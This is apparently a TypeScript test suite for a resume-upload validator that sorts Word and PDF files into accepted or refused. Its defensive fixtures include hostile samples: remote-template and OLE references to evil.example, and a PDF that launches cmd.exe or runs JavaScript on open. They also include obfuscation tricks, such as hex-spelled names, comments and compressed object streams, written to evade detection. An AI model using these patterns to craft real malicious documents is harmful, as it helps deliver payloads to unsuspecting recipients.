import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import {
  docxFile,
  pdfFile,
  wordTypes,
  type ZipPart,
  zipFile,
} from '../../../../../tests/support/resume-files.ts';
import { detectResumeKind } from './resume-file.rules.ts';

const relsOf = (...elements: string[]) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${elements.join('')}</Relationships>`;
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rel = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationship Id="r1" Type="${office}/${type}" Target="${target}"${mode}/>`;
const settings = (element: string): ZipPart => ({
  name: 'word/_rels/settings.xml.rels',
  text: relsOf(element),
});
const document = (element: string): ZipPart => ({
  name: 'word/_rels/document.xml.rels',
  text: relsOf(rel('styles', 'styles.xml', ''), element),
});

/** Returns a PDF with these objects, plain or in a compressed object stream. */
function pdf(objects: string, { packed = false } = {}): Uint8Array {
  const stream = deflateSync(Buffer.from(objects, 'latin1'));
  const body = packed
    ? Buffer.concat([
        Buffer.from(
          `4 0 obj<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length ${stream.length}>>stream\r\n`,
        ),
        stream,
        Buffer.from('\r\nendstream\nendobj\n'),
      ])
    : Buffer.from(objects, 'latin1');
  const file = Buffer.from(pdfFile());
  const at = file.indexOf('1 0 obj');
  return Buffer.concat([file.subarray(0, at), body, file.subarray(at)]);
}

/** Returns deterministic text that hardly compresses. */
function noise(length: number): string {
  let text = '';
  for (let round = 0; text.length < length; round += 1)
    text += createHash('sha512').update(String(round)).digest('base64');
  return text.slice(0, length);
}

const ordinaryDocx: Record<string, ZipPart[]> = {
  'of Word, with web and mail links': [
    document(
      rel('hyperlink', 'https://ana.example/?a=1&amp;b=2') +
        rel('hyperlink', 'mailto:ana@example.org'),
    ),
  ],
  'of Word, made from a template on its writer’s disk': [
    settings(
      rel(
        'attachedTemplate',
        'file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Resume.dotx',
      ),
    ),
  ],
  'of Word, with a chart and its numbers': [
    {
      name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx',
      text: Buffer.from(zipFile([{ name: 'a.xml', text: 'x' }])).toString('latin1'),
    },
    {
      name: 'word/charts/_rels/chart1.xml.rels',
      text: relsOf(rel('package', '../embeddings/Microsoft_Excel_Sheet1.xlsx', '')),
    },
  ],
  'of LibreOffice': [
    { name: 'docProps/app.xml', text: '<Application>LibreOffice/24.2$Linux</Application>' },
    document(rel('fontTable', 'fontTable.xml', '')),
  ],
  'whose parts are named from the root': [document(rel('theme', '/word/theme/theme1.xml', ''))],
  'made from a template beside it': [settings(rel('attachedTemplate', 'Resume.dotx'))],
  'whose web link has its kind written in decimal entities': [
    document(rel('hyperlin&#107;', 'https://ana.example')),
  ],
  'whose web link has its kind written in hex entities': [
    document(rel('hyperlin&#x6B;', 'https://ana.example')),
  ],
  'with its text stored uncompressed': [
    { name: 'word/document.xml', text: '<w:document/>', stored: true },
  ],
  'with more text than its list of parts may have': [
    { name: 'word/document.xml', text: `<w:document>${noise(300 * 1_024)}</w:document>` },
  ],
  'with a long list of parts that tells its kind at the end': [
    { name: '[Content_Types].xml', text: noise(8_000) + wordTypes },
  ],
  'with a list of parts of exactly 256 KB': [
    { name: '[Content_Types].xml', text: wordTypes.padEnd(256 * 1_024) },
  ],
  'of Google Docs, with a picture': [
    { name: 'word/media/image1.png', text: '\u0089PNG' },
    document(rel('image', 'media/image1.png', '')),
  ],
};
const hostileDocx: Record<string, ZipPart[]> = {
  'a template from the web': [settings(rel('attachedTemplate', 'https://evil.example/t.dotm'))],
  'a template from a share': [
    settings(rel('attachedTemplate', 'file://evil.example/share/t.dotm')),
  ],
  'a template from a share, written as a path': [
    settings(rel('attachedTemplate', '\\\\evil.example\\t.dotm')),
  ],
  'a template whose address is written in entities': [
    settings(rel('attachedTemplate', '&#104;ttps://evil.example/t.dotm')),
  ],
  'a template in single quotes': [
    settings(rel('attachedTemplate', 'https://evil.example/t').replaceAll('"', "'")),
  ],
  'a picture from the web': [document(rel('image', 'http://evil.example/pixel.png'))],
  'an object from the web': [
    document(rel('oleObject', 'mhtml:https://evil.example/a!x-usc:https://evil.example/b')),
  ],
  'relationships of another part': [
    { name: 'word/_rels/footer9.xml.RELS', text: relsOf(rel('frame', 'http://evil.example/')) },
  ],
  'an embedded object': [{ name: 'word/embeddings/oleObject1.bin', text: 'x' }],
  'a program': [{ name: 'word/media/setup.exe', text: 'x' }],
  'a program under another name': [{ name: 'word/media/image1.png', text: 'MZ\u0000\u0003' }],
  ActiveX: [{ name: 'word/activeX/activeX1.xml', text: '<x/>' }],
  'a template whose address has a character that is none': [
    settings(rel('attachedTemplate', 'https://evil.example/&#x110000;')),
  ],
  'a template whose address has a sign that ends elements': [
    settings(rel('attachedTemplate', 'https://evil.example/?>')),
  ],
  'a template whose element has an odd namespace': [
    settings(
      rel('attachedTemplate', 'https://evil.example/').replace(
        '<Relationship',
        '<a-b.c:Relationship',
      ),
    ),
  ],
  'a template whose element has a sign that ends elements in single quotes': [
    settings(rel('attachedTemplate', 'https://evil.example/').replace(' Id="r1"', " Id='>'")),
  ],
  'a link that only looks like one to the web': [
    document(rel('hyperlink&#x10FFFF;', 'https://evil.example')),
  ],
  'an embedded workbook with macros': [{ name: 'word/embeddings/Sheet.xlsm', text: 'PK' }],
};
const unreadableDocx: Record<string, ZipPart[]> = {
  'relationships in another encoding': [
    { name: 'word/_rels/document.xml.rels', text: '<\0R\0e\0l\0' },
  ],
  'a relationship that does not end': [
    settings(rel('hyperlink', 'https://ana.example').replace('/>', '')),
  ],
  'a relationship with a quote that does not end': [
    settings(rel('hyperlink', 'https://ana.example').replace(' Type', '" Type')),
  ],
  'relationships with a NUL among them': [
    { name: 'word/_rels/document.xml.rels', text: relsOf('\0') },
  ],
  'relationships that are no list of them': [
    { name: 'word/_rels/document.xml.rels', text: '<x/>' },
  ],
  'relationships that are longer than the directory says': [
    {
      name: 'word/_rels/document.xml.rels',
      text: relsOf(' '.repeat(1_000)),
      claims: { unpackedBytes: 100 },
    },
  ],
  'relationships with entities of their own': [
    {
      name: 'word/_rels/document.xml.rels',
      text: '<!DOCTYPE x [<!ENTITY e "External">]><Relationships/>',
    },
  ],
};

describe('Word document', () => {
  test.each(Object.keys(ordinaryDocx))('accepts %s', (name) =>
    expect(detectResumeKind(docxFile(ordinaryDocx[name]))).toEqual({ kind: 'DOCX' }),
  );
  test.each(Object.keys(hostileDocx))('refuses a document with %s', (name) =>
    expect(detectResumeKind(docxFile(hostileDocx[name]))).toEqual({ problem: 'FIELD_FILE_ACTIVE' }),
  );
  test.each(Object.keys(unreadableDocx))('rejects a document with %s', (name) =>
    expect(detectResumeKind(docxFile(unreadableDocx[name]))).toEqual({
      problem: 'FIELD_FILE_BROKEN',
    }),
  );
  const types = '[Content_Types].xml';
  const long = wordTypes + ' '.repeat(300 * 1_024);
  // Parsing again from each start would exceed the time limit of a test.
  test('refuses a document with the maximum of relationship parts as broken', () => {
    const text = relsOf('<Relationship '.repeat(18_000));
    const parts = Array.from({ length: 4 }, (_, n) => ({ name: `word/_rels/${n}.rels`, text }));
    expect(detectResumeKind(docxFile(parts))).toEqual({ problem: 'FIELD_FILE_BROKEN' });
  });
  test.each([
    ['51 lists of relationships', 51, '<Relationship a="b"/>'],
    ['lists of relationships of more than a megabyte', 5, '<Relationship a="b"/>'.repeat(11_900)],
  ])('refuses a document as too complex with %s', (_what, length, text) => {
    const parts = Array.from({ length }, (_, n) => ({
      name: `word/_rels/${n}.rels`,
      text: relsOf(text),
    }));
    expect(detectResumeKind(docxFile(parts))).toEqual({ problem: 'FIELD_FILE_TOO_COMPLEX' });
  });
  const tooLarge: Record<string, ZipPart[]> = {
    'whose list of types claims to be larger than such lists are': [
      { name: types, text: wordTypes, claims: { unpackedBytes: 300 * 1_024 } },
    ],
    'whose list of types is larger than it claims': [
      { name: types, text: long, claims: { unpackedBytes: 1_000 } },
    ],
    'whose list of types is larger than it claims, and not compressed': [
      { name: types, text: long, claims: { unpackedBytes: 1_000 }, stored: true },
    ],
    'whose parts claim to be 160 MB together': ['a', 'b'].map((name) => ({
      name: `word/media/${name}.png`,
      text: 'x',
      claims: { unpackedBytes: 80 * 1_024 ** 2 },
    })),
  };
  test.each(Object.keys(tooLarge))('%s is refused', (name) =>
    expect(detectResumeKind(docxFile(tooLarge[name]))).toEqual({ problem: 'FIELD_FILE_BROKEN' }),
  );
  test('accepts 140 MB of declared parts', () => {
    const parts = ['a', 'b'].map((name) => ({
      name: `word/media/${name}.png`,
      text: 'x',
      claims: { unpackedBytes: 70 * 1_024 ** 2 },
    }));
    expect(detectResumeKind(docxFile(parts))).toEqual({ kind: 'DOCX' });
  });
  test('accepts exactly 150 MB of declared parts', () => {
    const own = wordTypes.length + '<w:document/>'.length;
    expect(
      detectResumeKind(
        docxFile([
          {
            name: 'word/media/a.png',
            text: 'x',
            claims: { unpackedBytes: 150 * 1_024 ** 2 - own },
          },
        ]),
      ),
    ).toEqual({ kind: 'DOCX' });
  });
  const broken: Record<string, Uint8Array> = {
    'that is cut off': docxFile().subarray(0, 120),
    'with something behind it': Buffer.concat([docxFile(), Buffer.from('MZ')]),
    'with a part packed in a way that Word does not know': docxFile([
      { name: 'word/media/a.png', text: 'x', claims: { method: 12 } },
    ]),
    'with a part that does not unpack': docxFile([
      { name: 'word/media/a.png', text: '\u00ff\u00ff\u00ff', stored: true, claims: { method: 8 } },
    ]),
  };
  test.each(Object.keys(broken))('%s is refused as broken', (name) =>
    expect(detectResumeKind(broken[name] ?? new Uint8Array())).toEqual({
      problem: 'FIELD_FILE_BROKEN',
    }),
  );
  test('refuses a document with an encrypted part as locked', () =>
    expect(
      detectResumeKind(docxFile([{ name: 'word/secret.xml', text: 'x', claims: { flags: 1 } }])),
    ).toEqual({ problem: 'FIELD_FILE_ENCRYPTED' }));
  test('refuses a document that lists macros', () =>
    expect(
      detectResumeKind(
        docxFile([{ name: types, text: wordTypes.replace('document.main', 'macroEnabled.main') }]),
      ),
    ).toEqual({ problem: 'FIELD_FILE_MACROS' }));
  const others: Record<string, Uint8Array> = {
    'an archive without a list of parts': zipFile([
      { name: 'word/document.xml', text: '<w:document/>' },
    ]),
    'a list of parts without the text itself': zipFile([{ name: types, text: wordTypes }]),
    'a spreadsheet': docxFile([
      { name: types, text: '<Types>spreadsheetml.sheet.main+xml</Types>' },
    ]),
    'an archive with two parts of one name': docxFile([
      { name: 'word/a.xml', text: 'a' },
      { name: 'word/a.xml', text: 'b' },
    ]),
  };
  test.each(Object.keys(others))('finds no Word document in %s', (name) =>
    expect(detectResumeKind(others[name] ?? new Uint8Array())).toEqual({
      problem: 'FIELD_FILE_TYPE',
    }),
  );
  test.each([0, 1, 2, 3])('finds no Word document with byte %i of its signature changed', (at) => {
    const bytes = Buffer.from(docxFile());
    bytes[at] = 0x20;
    expect(detectResumeKind(bytes)).toEqual({ problem: 'FIELD_FILE_TYPE' });
  });
  test.each(['word/vbaProject.bin', 'word/VBAData.xml'])(
    'refuses macros as %s without a content type',
    (name) =>
      expect(detectResumeKind(docxFile([{ name, text: 'x' }]))).toEqual({
        problem: 'FIELD_FILE_MACROS',
      }),
  );
  test('refuses macros in a container of any name', () => {
    const container = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    expect(
      detectResumeKind(docxFile([{ name: 'word/media/image2.png', text: container }])),
    ).toEqual({
      problem: 'FIELD_FILE_ACTIVE',
    });
  });
});

const ordinaryPdf: Record<string, string> = {
  'of LaTeX, which opens at its first page':
    '5 0 obj<</OpenAction[3 0 R/Fit]/PageMode/UseOutlines>>endobj\n',
  'that opens by going to a page': '5 0 obj<</OpenAction<</S/GoTo/D[3 0 R/Fit]>>>>endobj\n',
  'with web links, as of Canva and Google Docs':
    '5 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://ana.example)>>>>endobj\n',
  'of a developer, whose skills and title say JavaScript':
    '5 0 obj<</Title(HTML/JavaScript developer, /JS and /Launch)>>endobj\nBT (HTML/JavaScript) Tj ET\n',
  'with fonts whose names begin like attachments':
    '5 0 obj<</Font<</EF1 6 0 R/XFA1 7 0 R>>>>endobj\nBT /EF1 12 Tf /XFA1 12 Tf ET\n',
  'of Europass, which carries its data as XML':
    '5 0 obj<</Type/Filespec/F(attachment.xml)/EF<</F 6 0 R>>>>endobj\n6 0 obj<</Type/EmbeddedFile/Subtype/text#2Fxml/Length 4>>stream\n<a/>\nendstream endobj\n',
};
const hostilePdf: Record<string, string> = {
  'a script that runs on opening':
    '5 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n',
  'a script with spaces and comments between':
    '5 0 obj<</S %x\n /JavaScript /JS(app.alert(1))>>endobj\n',
  'a script whose name is spelled in hex': '5 0 obj<</S/J#61v#61Script/JS(app.alert(1))>>endobj\n',
  'a script whose kind is an object of its own':
    '5 0 obj<</S 6 0 R/JS(app.alert(1))>>endobj\n6 0 obj/JavaScript endobj\n',
  'a program that it starts': '5 0 obj<</AA<</O<</S/Launch/F(cmd.exe)>>>>>>endobj\n',
  'a form that it sends': '5 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj\n',
  'a file inside':
    '5 0 obj<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>endobj\n6 0 obj<</Type/EmbeddedFile/Subtype/application#2Foctet-stream>>endobj\n',
  'a file inside, by reference': '5 0 obj<</Type/Filespec/EF 6 0 R>>endobj\n',
  'a form with scripts of its own': '5 0 obj<</AcroForm<</XFA[(template) 7 0 R]>>>>endobj\n',
  'such a form by reference': '5 0 obj<</AcroForm<</XFA 7 0 R>>>>endobj\n',
  'rich media': '5 0 obj<</Type/Annot/Subtype/RichMedia>>endobj\n',
};

describe('PDF', () => {
  test.each(Object.keys(ordinaryPdf))('%s is accepted, also with compressed objects', (name) => {
    const objects = ordinaryPdf[name] ?? '';
    expect([
      detectResumeKind(pdf(objects)),
      detectResumeKind(pdf(objects, { packed: true })),
    ]).toEqual([{ kind: 'PDF' }, { kind: 'PDF' }]);
  });
  test.each(Object.keys(hostilePdf))(
    'refuses a file with %s, also with compressed objects',
    (name) => {
      const objects = hostilePdf[name] ?? '';
      const refused = { problem: 'FIELD_FILE_ACTIVE' };
      expect([
        detectResumeKind(pdf(objects)),
        detectResumeKind(pdf(objects, { packed: true })),
      ]).toEqual([refused, refused]);
    },
  );
  test('accepts objects in an uncompressed stream', () => {
    expect(
      detectResumeKind(
        pdf('4 0 obj<</Type/ObjStm/N 1>>stream\n7 0 <</Title(Ana)>>\nendstream endobj\n'),
      ),
    ).toEqual({ kind: 'PDF' });
  });
  test('accepts a file that names an absent object stream', () => {
    expect(detectResumeKind(pdf('4 0 obj<</Type/ObjStm/Filter/LZWDecode>>endobj\n'))).toEqual({
      kind: 'PDF',
    });
  });
  test.each(['\n', '\r\n'])('refuses a script in a stream that begins after %j', (lineEnd) => {
    const stream = deflateSync(Buffer.from('7 0 <</S/JavaScript/JS(app.alert(1))>>')).toString(
      'latin1',
    );
    const file = pdf(
      `4 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream${lineEnd}${stream}\nendstream endobj\n`,
    );
    expect(detectResumeKind(file)).toEqual({ problem: 'FIELD_FILE_ACTIVE' });
  });
  test('refuses another decompression filter for objects, also with a readable stream', () => {
    const stream = deflateSync(Buffer.from('7 0 <</Title(Ana)>>')).toString('latin1');
    expect(
      detectResumeKind(
        pdf(`4 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\n${stream}\nendstream endobj\n`),
      ),
    ).toEqual({ problem: 'FIELD_FILE_BROKEN' });
  });
  const script = deflateSync(Buffer.from('7 0 <</S/JavaScript/JS(app.alert(1))>>')).toString(
    'latin1',
  );
  const hidden: Record<string, string> = {
    'whose kind is spelled in hex': '/Type/Obj#53tm/Filter/FlateDecode',
    'whose kind stands behind a comment': '/Type%\n/ObjStm/Filter/FlateDecode',
    'with its kind in another object': '/Type 9 0 R/Filter/FlateDecode',
    'whose filter is spelled in hex': '/F#69lter/Fl#61teDecode/Type/ObjStm',
    'with a word for an object between': '/Filter/FlateDecode/X(5 0 obj)/Type/ObjStm',
    'with a word for an end between': '/Filter/FlateDecode/Type/ObjStm/X(endobj)',
  };
  test.each(Object.keys(hidden))('refuses a script in an object stream %s', (name) => {
    expect(
      detectResumeKind(pdf(`4 0 obj<<${hidden[name]}>>stream\n${script}\nendstream endobj\n`)),
    ).toEqual({ problem: 'FIELD_FILE_ACTIVE' });
  });
  test('refuses a script in an object stream with long leading whitespace', () => {
    const [head, body] = [script.slice(0, 2), script.slice(2)];
    const nothing = '\0\0\0\u00ff\u00ff';
    for (const times of [20, 30, 200]) {
      const packed = head + nothing.repeat(times) + body;
      expect(
        detectResumeKind(
          pdf(`4 0 obj<</Filter/FlateDecode>>stream\n${packed}\nendstream endobj\n`),
        ),
      ).toEqual({ problem: 'FIELD_FILE_ACTIVE' });
    }
  });
  const unread: Record<string, string> = {
    'begins with a word for a stream': `/Type/ObjStm/X(stream\n)/Filter/FlateDecode>>stream\n${script}`,
    'is written in hex': `/Filter/ASCIIHexDecode/X(5 0 obj)/Type/ObjStm>>stream\n37 20 30 20 3C3C>`,
    'is written in hex, whose filter is spelled in hex': `/F#69lter/ASCII#48exDecode/Type/ObjStm>>stream\n37 20 30 20 3C3C>`,
    'says that it is compressed and is not':
      '/Type/ObjStm/Filter/FlateDecode>>stream\n7 0 <</Title(Ana)>>',
    'is no list of places': '/Type/ObjStm>>stream\n<</S/GoTo>>',
    'has its filter in another object': `/Filter 9 0 R/Type/ObjStm>>stream\n${script}`,
    'has two filters': `/Filter[/ASCIIHexDecode/FlateDecode]/Type/ObjStm>>stream\n37 20 30 >`,
  };
  test.each(Object.keys(unread))('refuses as broken an object stream that %s', (name) => {
    expect(detectResumeKind(pdf(`4 0 obj<<${unread[name]}\nendstream endobj\n`))).toEqual({
      problem: 'FIELD_FILE_BROKEN',
    });
  });
  const ordinaryStreams: Record<string, string> = {
    'a picture before its objects': `/Filter/DCTDecode/Subtype/Image>>stream\n\u00ff\u00d8 picture\nendstream endobj\n4 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n${deflateSync(Buffer.from('7 0 <</Title(Ana)>>')).toString('latin1')}`,
    'a drawing that begins with numbers': `/Filter/FlateDecode>>stream\n${deflateSync(Buffer.from('1 0 0 1 72 720 cm BT (Ana) Tj ET')).toString('latin1')}`,
    'objects that are not compressed before a drawing in another encoding':
      '/Type/ObjStm>>stream\n7 0 <</Title(Ana)>>\nendstream endobj\n5 0 obj<</Filter/ASCII85Decode>>stream\n87cUR~>',
    'a drawing in another encoding': `/Filter/ASCII85Decode>>stream\n87cUR~>`,
    'a list of filters with one': `/Type/ObjStm/Filter [ /FlateDecode ]>>stream\n${deflateSync(Buffer.from('7 0 <</Title(Ana)>>')).toString('latin1')}`,
  };
  test.each(Object.keys(ordinaryStreams))('accepts a file with %s', (name) => {
    expect(detectResumeKind(pdf(`3 0 obj<<${ordinaryStreams[name]}\nendstream endobj\n`))).toEqual({
      kind: 'PDF',
    });
  });
  const comments: Record<string, string> = {
    'one line': '%x',
    'a line that ends as on an old Mac': '%x\r/JavaScript/JS(app.alert(1))>>endobj %',
    'lines of their own': '\n %x\n\n%y\n',
    'a line behind a blank one': '\n\n\n',
  };
  test.each(Object.keys(comments))('refuses a script behind comments of %s', (name) => {
    expect(
      detectResumeKind(pdf(`5 0 obj<</S${comments[name]}\n/JavaScript/JS(app.alert(1))>>endobj\n`)),
    ).toEqual({ problem: 'FIELD_FILE_ACTIVE' });
  });
  test('accepts a comment up to the end of the file', () =>
    expect(
      detectResumeKind(Buffer.from(`${Buffer.from(pdfFile()).toString('latin1')}/S %x`)),
    ).toEqual({
      kind: 'PDF',
    }));
  // Quadratic scanning of these files would take an hour each.
  const taken = { kind: 'PDF' };
  test.each([
    ['\n', taken],
    ['/S%', taken],
    ['/EF%', { problem: 'FIELD_FILE_ACTIVE' }],
    ['obj%', taken],
    ['/S \n%/S%\n', taken],
    ['/Type/ObjStm', taken],
    ['/Filter%', taken],
  ])('reads to the end of three megabytes of %j', (piece, found) =>
    expect(detectResumeKind(pdf(piece.repeat((3 * 1_024 ** 2) / piece.length)))).toEqual(found),
  );
  test('refuses over five thousand streams as broken', () => {
    const file = (streams: number) =>
      detectResumeKind(pdf('stream\nx endstream\n'.repeat(streams)));
    expect(file(5_000)).toEqual({ kind: 'PDF' });
    expect(file(5_001)).toEqual({ problem: 'FIELD_FILE_BROKEN' });
  });
  test('accepts a large picture compressed like objects', () => {
    const picture = deflateSync(Buffer.alloc(25 * 1_024 ** 2, 0xff)).toString('latin1');
    expect(
      detectResumeKind(pdf(`4 0 obj<</Filter/FlateDecode>>stream\n${picture}\nendstream endobj\n`)),
    ).toEqual({ kind: 'PDF' });
  });
  test('refuses over twenty megabytes of unpacked objects as broken', () => {
    const large = deflateSync(Buffer.from(`7 0 ${' '.repeat(11 * 1_024 ** 2)}`)).toString('latin1');
    const stream = `4 0 obj<</Filter/FlateDecode>>stream\n${large}\nendstream endobj\n`;
    expect(detectResumeKind(pdf(stream))).toEqual({ kind: 'PDF' });
    expect(detectResumeKind(pdf(stream + stream))).toEqual({ problem: 'FIELD_FILE_BROKEN' });
  });
  const text = Buffer.from(pdfFile()).toString('latin1');
  const broken: Record<string, string> = {
    'of a version that there is not': text.replace('%PDF-1.7', '%PDF-9.9'),
    'without an end': text.replace('%%EOF', '%%'),
    'without the place of its table': text.replace('startxref', 'start'),
  };
  test.each(Object.keys(broken))('%s is refused as broken', (name) =>
    expect(detectResumeKind(Buffer.from(broken[name] ?? '', 'latin1'))).toEqual({
      problem: 'FIELD_FILE_BROKEN',
    }),
  );
  test('finds no PDF in a file that contains an archive', () =>
    expect(
      detectResumeKind(Buffer.concat([pdfFile(), zipFile([{ name: 'a.exe', text: 'MZ' }])])),
    ).toEqual({ problem: 'FIELD_FILE_TYPE' }));
  test('refuses an encrypted file as locked', () =>
    expect(
      detectResumeKind(Buffer.from(text.replace('<</Size', '<</Encrypt 5 0 R/Size'), 'latin1')),
    ).toEqual({ problem: 'FIELD_FILE_ENCRYPTED' }));
  test('refuses unreadable compressed objects', () => {
    expect(
      detectResumeKind(
        pdf('4 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\nnot zlib\nendstream endobj\n'),
      ),
    ).toEqual({ problem: 'FIELD_FILE_BROKEN' });
    expect(
      detectResumeKind(
        pdf('4 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\nx\nendstream endobj\n'),
      ),
    ).toEqual({ problem: 'FIELD_FILE_BROKEN' });
  });
});

describe('other file', () => {
  const container = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  const locked = Buffer.from('EncryptedPackage', 'utf16le');
  const kinds: [name: string, bytes: Uint8Array, problem: string][] = [
    ['that is empty', new Uint8Array(), 'FIELD_FILE_EMPTY'],
    ['of text', Buffer.from('Ana Duarte, cook'), 'FIELD_FILE_TYPE'],
    [
      'of text about locked documents',
      Buffer.concat([Buffer.from('notes '), locked]),
      'FIELD_FILE_TYPE',
    ],
    ['of an old Word', Buffer.concat([container, Buffer.alloc(600)]), 'FIELD_FILE_TYPE'],
    [
      'that is a locked Word document',
      Buffer.concat([container, Buffer.alloc(600), locked]),
      'FIELD_FILE_ENCRYPTED',
    ],
  ];
  test.each(kinds)('%s is refused with its reason', (_name, bytes, problem) =>
    expect(detectResumeKind(bytes)).toEqual({ problem }),
  );
});
